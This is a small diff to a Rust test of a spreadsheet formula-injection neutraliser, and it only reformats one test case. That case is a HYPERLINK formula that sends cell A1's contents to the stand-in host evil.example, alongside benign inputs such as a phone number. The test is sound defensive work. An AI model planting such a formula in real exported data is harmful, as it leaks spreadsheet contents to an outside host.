@@ -151,7 +151,10 @@ mod tests {
     #[test]
     fn formulas_are_neutralised_and_ordinary_text_is_not() {
         let cases = [
-            ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\") Иван", true),
+            (
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\") Иван",
+                true,
+            ),
             ("+7 916 123-45-67", true),
             ("-1+2", true),
             ("@SUM(A1:A2)", true),
